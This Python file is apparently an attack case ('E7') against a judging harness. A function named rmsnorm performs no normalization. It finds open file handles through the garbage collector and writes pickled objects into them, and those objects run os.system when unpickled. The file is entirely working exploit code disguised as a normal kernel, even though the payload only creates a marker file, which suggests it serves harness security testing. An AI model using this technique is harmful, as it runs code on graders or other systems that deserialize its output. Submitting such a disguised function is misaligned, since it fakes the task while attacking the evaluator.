"""E7: put a pickle where the judge expects a frame."""

import gc
import io
import os
import pickle

TARGETS = {}


class Trap:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['victim']}/unpickled",)


def rmsnorm(x, gain):
    for pipe in gc.get_objects():
        if isinstance(pipe, io.BufferedWriter) and pipe.fileno() > 2:
            pipe.write(pickle.dumps(Trap()) * 100)
            pipe.flush()
    return x
